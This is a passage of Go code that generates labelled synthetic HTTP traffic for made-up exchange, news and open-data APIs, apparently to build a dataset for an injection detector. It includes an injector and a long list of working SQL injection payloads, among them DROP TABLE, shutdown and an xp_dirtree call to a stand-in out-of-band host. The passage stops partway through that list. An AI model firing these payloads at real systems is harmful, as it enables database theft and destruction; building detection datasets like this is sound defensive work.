	pub := h7JSONHeaders("Cache-Control", "public, max-age=60", "Access-Control-Allow-Origin", "*")
	switch k := g.r.Intn(23); k {
	case 0, 1:
		g.add(anon, "GET", fmt.Sprintf("%s/v1/articles?status=published&section=%s&page=%d&per_page=%d&sort=-published_at&fields=id,title,slug,excerpt", H, sec, 1+g.r.Intn(30), []int{10, 20, 50, 100}[g.r.Intn(4)]), nil, "", 200, pub,
			h7JSON(map[string]any{"data": []map[string]any{{"id": id, "title": title, "slug": strings.ToLower(strings.ReplaceAll(title, " ", "-"))}}, "meta": map[string]any{"page": 1, "total": 4210}}))
	case 2, 3:
		g.add(anon, "GET", fmt.Sprintf("%s/v1/articles/%d?include=author,tags,embeds", H, id), nil, "", 200, pub,
			h7JSON(map[string]any{"id": id, "title": title, "section": sec, "body_html": g.articleHTML(), "embeds": []map[string]any{{"provider": "youtube", "html": `<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/` + g.alnum(11) + `" frameborder="0" allowfullscreen></iframe>`}}, "author": map[string]any{"id": 311, "name": "Dana Ruiz"}}))
	case 4, 5:
		body := g.articleHTML()
		if g.r.Intn(3) == 0 {
			body += "\n" + g.pick(h7TechSnippets)
		}
		req := h7JSON(map[string]any{"title": title, "section": sec, "body_html": body, "blocks": []map[string]any{
			{"type": "embed", "provider": "youtube", "url": "https://www.youtube.com/watch?v=" + g.alnum(11)},
			{"type": "embed", "provider": "x", "url": "https://x.com/metrocitytransit/status/18" + fmt.Sprint(g.r.Int63n(1e17))},
			{"type": "image", "media_id": 90000 + g.r.Intn(9999), "caption": "Crowds at Union Station on Monday"},
		}, "tags": []string{"council", "budget", sec}, "seo": map[string]any{"description": "What the 2027 budget means for you & your commute"}})
		g.add(au, "PUT", fmt.Sprintf("%s/v1/articles/%d", H, id), h7Hdr("Content-Type", "application/json"), req, 200, nil, h7JSON(map[string]any{"id": id, "revision": 1 + g.r.Intn(40), "status": "draft"}))
	case 6:
		st := g.pick([]string{"in_review", "approved", "scheduled", "published", "changes_requested"})
		note := g.pick([]string{"Looks good, tighten the lede.", "Please check the quote from O'Brien -- legal wants a second source.", "Scheduled for 06:00; hold for the embargo.", "Fixed the table: 2 > 1 columns were swapped."})
		g.add(ed, "PATCH", fmt.Sprintf("%s/v1/articles/%d/workflow", H, id), h7Hdr("Content-Type", "application/json"), h7JSON(map[string]any{"state": st, "note": note, "publish_at": "2026-11-25T06:00:00Z"}), 200, nil, h7JSON(map[string]any{"id": id, "state": st}))
	case 7, 8:
		cs := []string{
			"Great piece! <b>Finally</b> someone asked where the money goes.",
			"I'll select chair of the residents' group next week, come along.",
			"Union jack flags on the bridge again? Someone drop the council a line.",
			"As an old DBA: SELECT is not the problem, the missing index is :)",
			"The buses run every 20 min <i>on paper</i>. Reality is closer to 40.",
			"Cat; dog walkers will love the new park.",
			"O'Reilly had it right in 2019 -- nobody listened.",
			"My kid's school is on Elm & 5th, crossing there is scary. 1=1 tips for parents: go early.",
			"Love the chart, but the y-axis starts at 40 < 50?",
			"Source: https://www.metrocity.test/open-data/datasets/bike-lanes",
		}
		g.add(rd, "POST", fmt.Sprintf("%s/v1/articles/%d/comments", H, id), h7Hdr("Content-Type", "application/json"), h7JSON(map[string]any{"body": g.pick(cs), "parent_id": nil}), 201, nil, h7JSON(map[string]any{"id": 5000000 + g.r.Intn(999999), "status": "pending_moderation"}))
	case 9:
		g.add(anon, "GET", fmt.Sprintf("%s/v1/articles/%d/comments?sort=top&per_page=50", H, id), nil, "", 200, pub,
			h7JSON(map[string]any{"data": []map[string]any{{"id": 5000123, "body_html": "<p>Great piece! <b>Finally</b>.</p>", "author": "harbor_local"}}}))
	case 10, 11:
		q := g.pick([]string{"union station", "select committee", "drop table tennis", "O'Brien", "budget 2027", "bike lanes ward 3", "stack trace", "shell oil spill", "cat & dog shelter", "where is the 1=1 art show", "C++ meetup", "\"harbour dredging\" -opinion"})
		g.add(anon, "GET", fmt.Sprintf("%s/v1/search?q=%s&page=1&per_page=20", H, h7Q(q)), nil, "", 200, pub, h7JSON(map[string]any{"query": q, "hits": []map[string]any{{"id": id, "title": title, "highlight": "&hellip;<mark>" + strings.Split(q, " ")[0] + "</mark>&hellip;"}}}))
	case 12:
		svg := `<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="640" height="360" viewBox="0 0 640 360"><title>Ridership 2019-2026</title><rect x="40" y="120" width="60" height="200" fill="#1f77b4"/><rect x="120" y="80" width="60" height="240" fill="#1f77b4"/><text x="40" y="340" font-family="Georgia">2019</text></svg>`
		bd := "----WebKitFormBoundary" + g.alnum(16)
		body := "--" + bd + "\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nRidership chart, 2019 to 2026\r\n--" + bd + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"ridership-2019-2026.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n" + svg + "\r\n--" + bd + "--\r\n"
		g.add(au, "POST", H+"/v1/media", h7Hdr("Content-Type", "multipart/form-data; boundary="+bd), body, 201, nil, h7JSON(map[string]any{"id": 90000 + g.r.Intn(9999), "url": "https://cdn.harbortimes.test/media/2026/11/ridership-2019-2026.svg", "sha256": g.hexs(64)}))
	case 13:
		q := "query Front($section: String!, $limit: Int) { articles(section: $section, limit: $limit, status: PUBLISHED) { id title slug author { name } } }"
		g.add(anon, "POST", H+"/v1/graphql", h7Hdr("Content-Type", "application/json"), h7JSON(map[string]any{"operationName": "Front", "query": q, "variables": map[string]any{"section": sec, "limit": []int{12, 25, 50}[g.r.Intn(3)]}}), 200, nil, h7JSON(map[string]any{"data": map[string]any{"articles": []map[string]any{{"id": id, "title": title}}}}))
	case 14:
		g.add(ed, "GET", fmt.Sprintf("%s/v1/articles/%d/revisions?per_page=25", H, id), nil, "", 200, nil, h7JSON(map[string]any{"revisions": []map[string]any{{"rev": 12, "by": "au-2231", "diff_hash": g.hexs(40)}}}))
	case 15:
		tpl := g.pick([]string{"Hello {{subscriber.first_name}}, today's top story: {{story.title}}", "Good morning! Total: ${price} for a yearly plan. Unsubscribe: {{unsubscribe_url}}", "{% if subscriber.premium %}Thanks for supporting local news{% endif %}"})
		g.add(ed, "POST", H+"/v1/newsletters/preview", h7Hdr("Content-Type", "application/json"), h7JSON(map[string]any{"template": tpl, "story_id": id}), 200, nil, h7JSON(map[string]any{"html": "<p>Hello Sam, today's top story: " + title + "</p>"}))
	case 16:
		u := g.pick([]string{"https://www.youtube.com/watch?v=" + g.alnum(11), "https://vimeo.com/" + fmt.Sprint(800000000+g.r.Intn(99999999)), "https://x.com/metrocitytransit/status/1861234567890123456", "https://www.instagram.com/p/" + g.alnum(11) + "/"})
		g.add(au, "GET", H+"/v1/oembed?url="+h7Q(u)+"&maxwidth=640", nil, "", 200, nil, h7JSON(map[string]any{"type": "video", "provider_name": "YouTube", "html": "<iframe src=\"https://www.youtube-nocookie.com/embed/x\"></iframe>"}))
	case 17:
		tok := w.expiredCMS[g.r.Intn(len(w.expiredCMS))]
		g.add(h7Actor{ip: rd.ip, ua: rd.ua}, "POST", fmt.Sprintf("%s/v1/articles/%d/comments", H, id), h7Hdr("Authorization", "Bearer "+tok, "Content-Type", "application/json"), `{"body":"Agree with the editorial."}`, 401,
			h7JSONHeaders("WWW-Authenticate", `Bearer error="invalid_token"`), `{"error":"token_expired"}`)
	case 18:
		g.add(anon, "GET", fmt.Sprintf("%s/v1/authors/%d", H, 300+g.r.Intn(80)), nil, "", 200, pub, h7JSON(map[string]any{"name": "Dana Ruiz", "bio_html": "<p>City hall reporter. Tips: <a href=\"mailto:dana@harbortimes.test\">email</a></p>", "avatar": "https://cdn.harbortimes.test/authors/dana.jpg"}))
	case 19:
		g.add(h7Actor{ip: rd.ip, ua: rd.ua}, "POST", H+"/v1/auth/token", h7Hdr("Content-Type", "application/x-www-form-urlencoded"), "grant_type=refresh_token&refresh_token="+g.alnum(48)+"&client_id=web", 200, nil,
			h7JSON(map[string]any{"token_type": "Bearer", "access_token": rd.token, "expires_in": 3600, "refresh_token": g.alnum(48)}))
	case 20:
		csv := "stop,boardings_2025,boardings_2026\nUnion Station,41200,44010\nHarbor & 5th,8120,9003\n"
		bd := "----formdata-undici-0" + fmt.Sprint(g.r.Int63n(1e11))
		body := "--" + bd + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"ridership_by_stop.csv\"\r\nContent-Type: text/csv\r\n\r\n" + csv + "\r\n--" + bd + "--\r\n"
		g.add(au, "POST", H+"/v1/media", h7Hdr("Content-Type", "multipart/form-data; boundary="+bd), body, 201, nil, h7JSON(map[string]any{"id": 90000 + g.r.Intn(9999), "kind": "dataset"}))
	case 21:
		g.add(ed, "GET", H+"/v1/settings/payments", nil, "", 200, nil, h7JSON(map[string]any{"mode": "test", "publishable_key": "pk_test_51N" + g.alnum(96), "test_secret_key": "sk_test_51N" + g.alnum(96), "note": "sandbox until the paywall launch"}))
	default:
		g.add(ed, "GET", H+"/v1/articles?status=in_review&assignee=me&per_page=100", nil, "", 200, nil, h7JSON(map[string]any{"data": []map[string]any{{"id": id, "title": title, "state": "in_review"}}}))
	}
}

var h7Datasets = []string{"7ytq-m2xk", "bk3p-9a2f", "n4vz-q8rr", "c2hd-5uwe", "pz7s-kk41", "tr6w-3m9j", "q9xe-aa7b", "f3nb-ug2c"}

var h7DatasetNames = []string{"311 service requests", "Bike lane network", "Restaurant inspections", "Street tree census", "Building permits", "Parking citations", "Traffic counts", "Bus stop amenities"}

func (g *h7Gen) dataBenign(w *h7World) {
	H := "https://" + h7Data
	anon := w.dataAnon[g.r.Intn(len(w.dataAnon))]
	st := w.stewards[g.r.Intn(len(w.stewards))]
	adm := w.adms[g.r.Intn(len(w.adms))]
	di := g.r.Intn(len(h7Datasets))
	ds := h7Datasets[di]
	pub := h7JSONHeaders("Cache-Control", "public, max-age=300", "Access-Control-Allow-Origin", "*")
	lat := 37.70 + float64(g.r.Intn(13000))/100000
	lon := -122.52 + float64(g.r.Intn(17000))/100000
	switch k := g.r.Intn(22); k {
	case 0, 1:
		q := g.pick([]string{"bike lanes", "trees", "select bus service", "union square permits", "drop-off zones", "crime 2025", "noise complaints", "water main breaks", "O'Farrell St parking"})
		g.add(anon, "GET", fmt.Sprintf("%s/api/v2/datasets?q=%s&page=%d&per_page=%d", H, h7Q(q), 1+g.r.Intn(5), []int{25, 50, 100}[g.r.Intn(3)]), nil, "", 200, pub,
			h7JSON(map[string]any{"results": []map[string]any{{"id": ds, "name": h7DatasetNames[di], "updated": "2026-11-23", "rows": 100000 + g.r.Intn(4000000)}}, "total": 12}))
	case 2, 3, 4:
		lim := []int{100, 200, 250, 500, 1000, 1000}[g.r.Intn(6)]
		qs := fmt.Sprintf("limit=%d&offset=%d", lim, lim*g.r.Intn(400))
		switch g.r.Intn(4) {
		case 0:
			qs += "&filter[ward]=" + fmt.Sprint(1+g.r.Intn(11))
		case 1:
			qs += "&filter[year][$gte]=2020&filter[status][$in]=open,pending"
		case 2:
			qs += "&order=created_date%20DESC&select=id,created_date,category,lat,lon"
		}
		var rows []string
		for i := 0; i < 12; i++ {
			rows = append(rows, fmt.Sprintf(`{"id":%d,"created_date":"2026-11-%02dT%02d:%02d:00","category":"%s","lat":%.5f,"lon":%.5f,"row_hash":"%s"}`, 9000000+g.r.Intn(999999), 1+g.r.Intn(23), g.r.Intn(24), g.r.Intn(60), g.pick([]string{"Noise", "Graffiti", "Pothole", "Street light out", "Tree maintenance"}), lat, lon, g.hexs(32)))
		}
		body := `{"dataset":"` + ds + `","limit":` + fmt.Sprint(lim) + `,"rows":[` + strings.Join(rows, ",")
		it := g.add(anon, "GET", fmt.Sprintf("%s/api/v2/datasets/%s/rows?%s", H, ds, qs), nil, "", 200, pub, body)
		it.x.Response.BodySize = 2000 + lim*230
		it.x.Response.Truncated = true
	case 5:
		layer := g.pick([]string{"bike_lanes", "parcels", "street_trees", "zoning", "bus_routes"})
		it := g.add(anon, "GET", fmt.Sprintf("%s/api/v2/geo/features?layer=%s&bbox=%.4f,%.4f,%.4f,%.4f&limit=1000&format=geojson", H, layer, lon, lat, lon+0.02, lat+0.02), nil, "", 200, pub,
			fmt.Sprintf(`{"type":"FeatureCollection","features":[{"type":"Feature","geometry":{"type":"LineString","coordinates":[[%.5f,%.5f],[%.5f,%.5f]]},"properties":{"id":"%s-%d"}}`, lon, lat, lon+0.001, lat+0.001, layer, g.r.Intn(99999)))
		it.x.Response.BodySize = 180000 + g.r.Intn(60000)
		it.x.Response.Truncated = true
	case 6, 7:
		g.add(anon, "GET", fmt.Sprintf("%s/api/v2/transit/stops/nearby?lat=%.5f&lon=%.5f&radius=%d", H, lat, lon, []int{200, 400, 800}[g.r.Intn(3)]), nil, "", 200, pub,
			h7JSON(map[string]any{"stops": []map[string]any{{"stop_id": fmt.Sprintf("STP-%05d", g.r.Intn(99999)), "name": g.pick([]string{"Union Station", "Harbor & 5th", "O'Farrell / Mason", "City Hall"}), "distance_m": g.r.Intn(400)}}}))
	case 8, 9:
		g.add(anon, "GET", fmt.Sprintf("%s/api/v2/transit/arrivals?stop_id=STP-%05d&max=10", H, g.r.Intn(99999)), nil, "", 200, h7JSONHeaders("Access-Control-Allow-Origin", "*", "Cache-Control", "max-age=15"),
			h7JSON(map[string]any{"arrivals": []map[string]any{{"route": fmt.Sprint(1 + g.r.Intn(60)), "eta_s": g.r.Intn(1200), "vehicle_id": "V" + fmt.Sprint(1000+g.r.Intn(900)), "trip_id": g.hexs(24)}}}))
	case 10:
		g.add(anon, "GET", fmt.Sprintf("%s/api/v2/transit/routes/%d/vehicles", H, 1+g.r.Intn(60)), nil, "", 200, pub,
			h7JSON(map[string]any{"vehicles": []map[string]any{{"id": "V1042", "lat": lat, "lon": lon, "bearing": 270, "occupancy": "MANY_SEATS_AVAILABLE"}}}))
	case 11:
		it := g.add(anon, "GET", fmt.Sprintf("%s/api/v2/datasets/%s/export.csv", H, h7Datasets[0]), h7Hdr("Accept", "text/csv"), "", 200,
			h7Hdr("Content-Type", "text/csv; charset=utf-8", "Content-Disposition", `attachment; filename="311_service_requests.csv"`, "Access-Control-Allow-Origin", "*"),
			"id,created_date,category,address,lat,lon,status\n9001234,2026-11-02T08:14:00,Noise,\"Harbor & 5th\",37.7812,-122.4101,closed\n9001235,2026-11-02T08:20:00,Pothole,\"1 O'Farrell St\",37.7866,-122.4043,open\n")
		it.x.Response.BodySize = 48000000 + g.r.Intn(4000000)
		it.x.Response.Truncated = true
	case 12:
		body := h7JSON(map[string]any{"dataset": ds, "select": []string{"category", "count(*)"}, "filters": map[string]any{"created_date": map[string]any{"$gte": "2026-01-01"}, "ward": map[string]any{"$in": []int{3, 5}}}, "group_by": []string{"category"}, "pagination": map[string]any{"page": 1 + g.r.Intn(5), "size": []int{100, 500, 1000}[g.r.Intn(3)]}})
		g.add(anon, "POST", H+"/api/v2/query", h7Hdr("Content-Type", "application/json"), body, 200, pub, h7JSON(map[string]any{"rows": [][]any{{"Noise", 4120}, {"Graffiti", 1833}}}))
	case 13:
		g.add(anon, "GET", fmt.Sprintf("%s/api/v2/transit/plan?from=%.5f,%.5f&to=%.5f,%.5f&mode=TRANSIT,WALK&arriveBy=false&date=2026-11-25&time=08:30", H, lat, lon, lat+0.01, lon+0.02), nil, "", 200, pub,
			h7JSON(map[string]any{"itineraries": []map[string]any{{"duration": 1740, "legs": []string{"WALK", "BUS 38", "WALK"}}}}))
	case 14:
		g.add(adm, "GET", H+"/api/v2/admin/harvest-jobs?state=failed&per_page=50", nil, "", 200, nil,
			h7JSON(map[string]any{"jobs": []map[string]any{{"id": 4411, "source": "https://gis.metrocounty.example/arcgis/rest/services/Parcels/FeatureServer/0", "state": "failed", "error": "upstream returned 503 Service Unavailable"}}}))
	case 15:
		src := g.pick([]string{
			"https://gis.metrocounty.example/arcgis/rest/services/Parcels/FeatureServer/0/query?where=1%3D1&outFields=*&f=geojson",
			"https://data.state.example/api/views/abcd-1234/rows.csv?accessType=DOWNLOAD",
			"https://s3.us-west-2.amazonaws.com/metrocity-open-data/exports/permits.parquet",
			"https://transit.metrocity.test/gtfs/google_transit.zip",
		})
		g.add(adm, "PUT", fmt.Sprintf("%s/api/v2/admin/harvest-sources/%d", H, 10+g.r.Intn(40)), h7Hdr("Content-Type", "application/json"), h7JSON(map[string]any{"source_url": src, "schedule": "0 3 * * *", "format": "auto"}), 200, nil, `{"status":"saved"}`)
	case 16:
		g.add(adm, "POST", fmt.Sprintf("%s/api/v2/admin/datasets/%s/publish", H, ds), h7Hdr("Content-Type", "application/json"), `{"version":"2026.11.24","notify":true}`, 200, nil, h7JSON(map[string]any{"dataset": ds, "published": true}))
	case 17:
		desc := g.pick([]string{"<p>Calls to <b>311</b> since 2015. Updated nightly.</p>", "Street trees maintained by the city; species names follow the USDA list. See ../docs/methodology.md for details.", "Permits issued under Ord. 12-2019 &amp; 4-2021 (select categories only)."})
		g.add(st, "POST", fmt.Sprintf("%s/api/v2/datasets/%s/drafts", H, ds), h7Hdr("Content-Type", "application/json"), h7JSON(map[string]any{"description": desc, "license": "CC-BY-4.0", "tags": []string{"311", "city"}}), 201, nil, h7JSON(map[string]any{"draft_id": 700 + g.r.Intn(200)}))
	case 18:
		g.add(st, "GET", fmt.Sprintf("%s/api/v2/datasets/%s/drafts?per_page=20", H, ds), nil, "", 200, nil, h7JSON(map[string]any{"drafts": []map[string]any{{"id": 712, "editor": st.sub}}}))
	case 19:
		if g.r.Intn(3) == 0 {
			g.add(anon, "GET", fmt.Sprintf("%s/api/v2/transit/routes/%d/vehicles", H, 1+g.r.Intn(60)), nil, "", 503,
				h7JSONHeaders("Retry-After", "10"), h7JSON(map[string]any{"error": "upstream_unavailable", "message": "The realtime feed is not answering; try again shortly.", "request_id": g.hexs(32)}))
			break
		}
		g.add(anon, "GET", fmt.Sprintf("%s/api/v2/datasets/%s/rows?limit=1000&offset=%d", H, ds, 1000*g.r.Intn(900)), nil, "", 429,
			h7JSONHeaders("Retry-After", "30", "Access-Control-Allow-Origin", "*"), `{"error":"rate_limited","message":"Anonymous clients may make 1000 requests per hour. Register an app token for more."}`)
	case 20:
		g.add(anon, "GET", fmt.Sprintf("%s/api/v2/datasets/%s", H, ds), nil, "", 200, pub,
			h7JSON(map[string]any{"id": ds, "name": h7DatasetNames[di], "columns": []map[string]any{{"name": "id", "type": "number"}, {"name": "created_date", "type": "timestamp"}}, "download_url": "https://data.metrocity.test/api/v2/datasets/" + ds + "/export.csv", "checksum_sha256": g.hexs(64)}))
	default:
		g.add(anon, "GET", fmt.Sprintf("%s/api/v2/geo/geocode?address=%s", H, h7Q(g.pick([]string{"1 Dr Carlton B Goodlett Pl", "O'Farrell St & Mason St", "Union Sq", "500 Harbor Blvd #2"}))), nil, "", 200, pub,
			h7JSON(map[string]any{"lat": lat, "lon": lon, "confidence": 0.93}))
	}
}

func h7Benign(g *h7Gen, w *h7World) []h7Item {
	g.items = nil
	for i := 0; i < 1260; i++ {
		switch i % 3 {
		case 0:
			g.coinBenign(w)
		case 1:
			g.cmsBenign(w)
		default:
			g.dataBenign(w)
		}
	}
	out := g.items
	g.items = nil
	return out
}

// h7Places are where an injected value can sit.
var h7Places = []string{"q", "json", "path", "jsondeep", "form", "ua", "cookie", "q", "jsonu", "referer", "mpfield", "xhdr", "hpp", "xml", "gql", "q", "json", "xff"}

func (g *h7Gen) atk(w *h7World, host string, withToken bool) h7Actor {
	a := w.attackers[g.r.Intn(len(w.attackers))]
	if withToken {
		role := "trader"
		if host == h7CMS {
			role = "subscriber"
		} else if host == h7Data {
			role = "steward"
		}
		a.token = h7Token(host, a.sub, role)
	}
	return a
}

// h7Payload is an attack value: v is what the attacker means; raw, when set,
// is the already-encoded form a tool puts into a URL or form.
type h7Payload struct {
	v, raw string
}

func h7P(vs ...string) []h7Payload {
	out := make([]h7Payload, len(vs))
	for i, v := range vs {
		if strings.HasPrefix(v, "RAW:") {
			raw := v[4:]
			dec, err := url.QueryUnescape(raw)
			if err != nil {
				dec = raw
			}
			out[i] = h7Payload{v: dec, raw: raw}
		} else {
			out[i] = h7Payload{v: v}
		}
	}
	return out
}

func (p h7Payload) q() string {
	if p.raw != "" {
		return p.raw
	}
	return h7QP(p.v)
}

// inject places p at place on one of the three APIs and sends it with a
// non-leaking response unless status and respBody are given.
func (g *h7Gen) inject(w *h7World, place string, p h7Payload, status int, respBody string, labels ...string) {
	host := []string{h7Coin, h7CMS, h7Data}[g.r.Intn(3)]
	H := "https://" + host
	a := g.atk(w, host, g.r.Intn(2) == 0)
	var method, u, body string
	hdr := map[string][]string{}
	sym := g.pick(h7Symbols)
	benignGet := func() string {
		switch host {
		case h7Coin:
			return H + "/api/v3/market/ticker?symbol=" + sym
		case h7CMS:
			return H + "/v1/articles?section=" + g.pick(h7Sections) + "&per_page=20"
		}
		return H + "/api/v2/datasets?q=trees&per_page=25"
	}
	jsonTarget := func() string {
		switch host {
		case h7Coin:
			return H + "/api/v3/orders"
		case h7CMS:
			return fmt.Sprintf("%s/v1/articles/%d/comments", H, 18000+g.r.Intn(4000))
		}
		return H + "/api/v2/query"
	}
	if strings.ContainsAny(p.v, "\r\n") && (place == "ua" || place == "referer" || place == "xff" || place == "xhdr") {
		place = "q"
	}
	switch place {
	case "q":
		method = "GET"
		switch host {
		case h7Coin:
			u = H + "/api/v3/" + g.pick([]string{"market/ticker?symbol=", "market/trades?limit=50&symbol=", "orders?status=open&symbol="}) + p.q()
		case h7CMS:
			u = H + "/v1/" + g.pick([]string{"search?per_page=20&q=", "articles?status=published&section=", "articles?per_page=20&sort="}) + p.q()
		default:
			u = H + "/api/v2/" + g.pick([]string{"datasets?q=", "transit/arrivals?stop_id=", "datasets/" + g.pick(h7Datasets) + "/rows?limit=100&order=", "geo/geocode?address="}) + p.q()
		}
	case "hpp":
		method = "GET"
		switch host {
		case h7Coin:
			u = H + "/api/v3/market/depth?symbol=" + sym + "&limit=20&symbol=" + p.q()
		case h7CMS:
			u = H + "/v1/search?q=budget&page=1&q=" + p.q()
		default:
			u = H + "/api/v2/transit/arrivals?stop_id=STP-00412&stop_id=" + p.q()
		}
	case "path":
		method = "GET"
		seg := h7PathEsc(p.v)
		if p.raw != "" {
			seg = p.raw
		}
		switch host {
		case h7Coin:
			u = H + "/api/v3/orders/" + seg
		case h7CMS:
			u = H + "/v1/articles/" + seg + "?include=author"
		default:
			u = H + "/api/v2/datasets/" + seg + "/rows?limit=50"
		}
	case "form":
		method = "POST"
		hdr["Content-Type"] = []string{"application/x-www-form-urlencoded"}
		switch host {
		case h7Coin:
			u = H + "/api/v3/auth/login"
			body = "email=" + p.q() + "&password=hunter2&remember=1"
		case h7CMS:
			u = H + "/v1/contact"
			body = "name=Alex&email=alex%40mail.example&subject=" + p.q() + "&message=hello"
		default:
			u = H + "/api/v2/feedback"
			body = "dataset=" + g.pick(h7Datasets) + "&comment=" + p.q() + "&rating=2"
		}
	case "json", "jsonu", "jsondeep":
		method = "POST"
		hdr["Content-Type"] = []string{"application/json"}
		u = jsonTarget()
		val := h7JSON(p.v)
		if place == "jsonu" {
			val = h7UEsc(p.v)
		}
		switch {
		case place == "jsondeep" && host == h7Coin:
			body = `{"symbol":"` + sym + `","side":"buy","type":"limit","price":"100.5","quantity":"0.01","meta":{"strategy":{"tags":["grid",` + val + `]}}}`
		case place == "jsondeep" && host == h7CMS:
			body = `{"body":"Nice article","context":{"client":{"app":"web","ref":{"campaign":` + val + `}}}}`
		case place == "jsondeep":
			body = `{"dataset":"7ytq-m2xk","filters":{"and":[{"field":"category","eq":` + val + `},{"field":"ward","eq":3}]},"pagination":{"page":1,"size":100}}`
		case host == h7Coin:
			body = `{"symbol":` + val + `,"side":"buy","type":"market","quantity":"0.01"}`
		case host == h7CMS:
			body = `{"body":` + val + `,"parent_id":null}`
		default:
			body = `{"dataset":` + val + `,"select":["category"],"pagination":{"page":1,"size":50}}`
		}
	case "ua", "referer", "xff", "xhdr", "cookie":
		method = "GET"
		u = benignGet()
		switch place {
		case "ua":
			hdr["User-Agent"] = []string{p.v}
		case "referer":
			hdr["Referer"] = []string{p.v}
		case "xff":
			hdr["X-Forwarded-For"] = []string{p.v}
		case "xhdr":
			hdr[g.pick([]string{"X-Api-Version", "X-Client-Build", "X-Request-Source", "X-Device-Model"})] = []string{p.v}
		case "cookie":
			hdr["Cookie"] = []string{g.pick([]string{"lang", "theme", "last_section", "cv_pref", "tz"}) + "=" + p.q() + "; _ga=GA1.2." + fmt.Sprint(g.r.Int63n(1e9)) + ".1732400000"}
		}
	case "mpfield", "mpfile":
		method = "POST"
		bd := "----WebKitFormBoundary" + g.alnum(16)
		hdr["Content-Type"] = []string{"multipart/form-data; boundary=" + bd}
		u = H + map[string]string{h7Coin: "/api/v3/kyc/documents", h7CMS: "/v1/media", h7Data: "/api/v2/feedback/attachments"}[host]
		field, fname := "caption", "scan.jpg"
		fieldVal := p.v
		if place == "mpfile" {
			fname, fieldVal = p.v, "Passport page"
		}
		body = "--" + bd + "\r\nContent-Disposition: form-data; name=\"" + field + "\"\r\n\r\n" + fieldVal + "\r\n--" + bd + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fname + "\"\r\nContent-Type: text/plain\r\n\r\nscan placeholder\r\n--" + bd + "--\r\n"
	case "xml":
		method = "POST"
		hdr["Content-Type"] = []string{"application/xml"}
		x := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "'", "&apos;", "\"", "&quot;").Replace(p.v)
		switch host {
		case h7CMS:
			u = H + "/v1/import/wxr"
			body = `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><item><title>` + x + `</title><category>city</category></item></channel></rss>`
		case h7Coin:
			u = H + "/api/v3/reports/tax"
			body = `<?xml version="1.0"?><TaxReportRequest><Year>2025</Year><Account id="` + x + `"/></TaxReportRequest>`
		default:
			u = H + "/api/v2/import/kml"
			body = `<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>` + x + `</name><Point><coordinates>-122.41,37.78</coordinates></Point></Placemark></kml>`
		}
	case "gql":
		method = "POST"
		hdr["Content-Type"] = []string{"application/json"}
		host = h7CMS
		H = "https://" + host
		a = g.atk(w, host, true)
		u = H + "/v1/graphql"
		body = `{"operationName":"Search","query":"query Search($q: String!) { search(query: $q, limit: 20) { id title } }","variables":{"q":` + h7JSON(p.v) + `}}`
	default:
		panic(place)
	}
	if status == 0 {
		switch method {
		case "GET":
			status = []int{200, 400, 404, 403}[g.r.Intn(4)]
		default:
			status = []int{400, 422, 403, 201}[g.r.Intn(4)]
		}
		switch status {
		case 200:
			respBody = `{"data":[],"total":0}`
		case 201:
			respBody = `{"id":` + fmt.Sprint(5000000+g.r.Intn(999999)) + `,"status":"pending_moderation"}`
		case 400, 422:
			respBody = `{"error":"validation_failed","message":"invalid value"}`
		case 403:
			respBody = `{"error":"forbidden","message":"Request blocked"}`
		default:
			respBody = `{"error":"not_found"}`
		}
	}
	g.add(a, method, u, hdr, body, status, nil, respBody, labels...)
}

var h7SQLi = h7P(
	"1 AND 5621=5621",
	"BTC-USDT' AND 3841=3841 AND 'xYzA'='xYzA",
	"1) AND 1739=1739 AND (4402=4402",
	"1' AND SLEEP(5) AND 'hQkd'='hQkd",
	"1;SELECT PG_SLEEP(5)--",
	"1'; WAITFOR DELAY '0:0:5'--",
	"1 UNION ALL SELECT NULL,NULL,CONCAT(0x7178766271,0x4a4b4c4d,0x71786a7171)-- -",
	"-3854' UNION ALL SELECT NULL,NULL,NULL,NULL-- lGsE",
	"1' AND EXTRACTVALUE(4128,CONCAT(0x5c,0x71626a7171,(SELECT (ELT(4128=4128,1))),0x7176767171)) AND 'Fxyz'='Fxyz",
	"1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71,0x78))s), 8446744073709551610, 8446744073709551610)))",
	"' OR '1'='1",
	"admin'--",
	"admin' #",
	"' or 1=1 limit 1 -- -+",
	"1'/**/UNION/**/SELECT/**/username,password_hash/**/FROM/**/users--",
	"1' uNiOn SeLeCt 1,2,3,4--",
	"RAW:%27%20OR%201%3D1--%20",
	"RAW:%2527%2520OR%25201%253D1--%2520",
	"1%' AND 2*3*8=6*8 AND 'Bq7P%'='Bq7P",
	"') OR ('a'='a",
	"\" OR \"\"=\"",
	"1 OR 1=1",
	"1' ORDER BY 10-- -",
	"1 GROUP BY 1,2,3,4,5--",
	"'; EXEC master..xp_dirtree '\\\\x7k2.oast.example\\a'--",
	"1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
	"(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)",
	"1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
	"' AND 1=CONVERT(int,(SELECT @@version))--",
	"1 AND 1=CAST((SELECT version()) AS int)",
	"'||(SELECT '' FROM dual)||'",
	"1' AND 1337=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5) AND 'x'='x",
	"1;DROP TABLE orders--",
	"';shutdown--",
	"1 RLIKE (SELECT (CASE WHEN (7217=7217) THEN 1 ELSE 0x28 END))",
	"x' AND GTID_SUBSET(CONCAT(0x71,(SELECT version()),0x71),7301)-- -",
	"'+(select*from(select(sleep(5)))a)+'",
	"1'||pg_sleep(5)--",
	"-1 union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()--",
	"1' and updatexml(1,concat(0x7e,(select user())),1)-- -",
	"1 UNION SELECT CHAR(117,115,101,114),2,3--",
	"admin'/*",
	"1' AND '1'='1' -- ",
	"' OR 'x'='x",
	"%' OR 1=1 #",
	"1 AnD 1=1",
